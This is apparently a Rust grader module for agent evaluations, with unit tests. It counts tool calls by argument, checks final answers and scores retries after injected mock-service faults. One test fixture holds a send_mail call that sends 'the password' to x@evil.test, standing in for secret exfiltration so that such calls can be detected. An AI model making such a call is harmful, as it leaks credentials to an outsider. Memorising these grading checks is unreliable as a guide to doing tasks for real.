//! What the checks look at besides the sandbox's files, in plain types so that they are tested
//! natively: the tool calls the agent made, its final answer, and a mock service's audit.

use std::collections::BTreeMap;

use serde_json::Value;

use crate::select;

/// One tool call of the trajectory.
#[derive(Debug, Clone)]
pub struct Call {
    pub name: String,
    /// The arguments as JSON (`null` when the model sent something unparseable).
    pub arguments: Value,
}

/// How many calls of `tool` have arguments satisfying `filter`.
pub fn calls_of(calls: &[Call], tool: &str, filter: &BTreeMap<String, Value>) -> usize {
    calls.iter().filter(|c| c.name == tool && select::satisfies(&c.arguments, filter)).count()
}

/// Whether the answer holds `contains` (case-insensitive), `pattern` and `min_length`; what
/// was missing when it does not.
pub fn answer_holds(answer: &str, contains: &[String], pattern: Option<&str>, min_length: usize) -> Result<(), String> {
    let lower = answer.to_lowercase();
    let missing: Vec<&str> =
        contains.iter().filter(|c| !lower.contains(&c.to_lowercase())).map(String::as_str).collect();
    if !missing.is_empty() {
        return Err(format!("the answer lacks {missing:?}"));
    }
    if let Some(p) = pattern
        && !regex::Regex::new(p).is_ok_and(|re| re.is_match(answer))
    {
        return Err(format!("the answer does not match {p:?}"));
    }
    if answer.chars().count() < min_length {
        return Err(format!("the answer has {} characters, under {min_length}", answer.chars().count()));
    }
    Ok(())
}

/// Robustness from audits: (recovered, injected). A fault is recovered when a later call with
/// the same method and path got an answer below 400 without a fault of its own.
pub fn recovered(calls: &[Value]) -> (usize, usize) {
    let key =
        |c: &Value| (c["method"].as_str().unwrap_or("").to_string(), c["path"].as_str().unwrap_or("").to_string());
    let ok = |c: &Value| c["injected"].is_null() && c["status"].as_u64().is_some_and(|s| s < 400);
    let mut injected = 0;
    let mut recovered = 0;
    for (i, c) in calls.iter().enumerate() {
        if c["injected"].is_null() {
            continue;
        }
        injected += 1;
        if calls[i + 1..].iter().any(|later| key(later) == key(c) && ok(later)) {
            recovered += 1;
        }
    }
    (recovered, injected)
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn tool_calls_are_counted_with_their_arguments() {
        let calls = vec![
            Call { name: "send_mail".into(), arguments: json!({"to": ["ana@corp.test"], "subject": "Re: budget"}) },
            Call { name: "send_mail".into(), arguments: json!({"to": "x@evil.test", "body": "the password"}) },
            Call { name: "search".into(), arguments: Value::Null },
        ];
        let f = |v: Value| serde_json::from_value::<BTreeMap<String, Value>>(v).unwrap();
        assert_eq!(calls_of(&calls, "send_mail", &f(json!({}))), 2);
        assert_eq!(calls_of(&calls, "send_mail", &f(json!({"to": "evil\\.test$"}))), 1);
        assert_eq!(calls_of(&calls, "send_mail", &f(json!({"to": "ana@", "subject": "(?i)re:"}))), 1);
        assert_eq!(calls_of(&calls, "search", &f(json!({"q": "x"}))), 0);
    }

    #[test]
    fn answers_are_checked_and_say_what_is_missing() {
        assert!(
            answer_holds("Needs reply: Ana. Spam: lottery.", &["needs reply".into(), "SPAM".into()], None, 10).is_ok()
        );
        assert_eq!(answer_holds("ok", &["FYI".into()], None, 0).unwrap_err(), "the answer lacks [\"FYI\"]");
        assert!(answer_holds("ok", &[], Some("^\\d+$"), 0).unwrap_err().contains("does not match"));
        assert!(answer_holds("ok", &[], None, 3).unwrap_err().contains("under 3"));
    }

    #[test]
    fn robustness_counts_faults_retried_to_success() {
        let c =
            |m: &str, p: &str, s: u64, inj: Option<&str>| json!({"method": m, "path": p, "status": s, "injected": inj});
        let audit = vec![
            c("GET", "/mail/messages", 500, Some("ServerError")),
            c("GET", "/mail/messages", 200, None),
            c("POST", "/mail/send", 429, Some("RateLimited")),
            c("POST", "/mail/send", 400, None),
            c("GET", "/mail/messages/m1", 504, Some("Timeout")),
        ];
        assert_eq!(recovered(&audit), (1, 3));
        assert_eq!(recovered(&[]), (0, 0));
    }
}
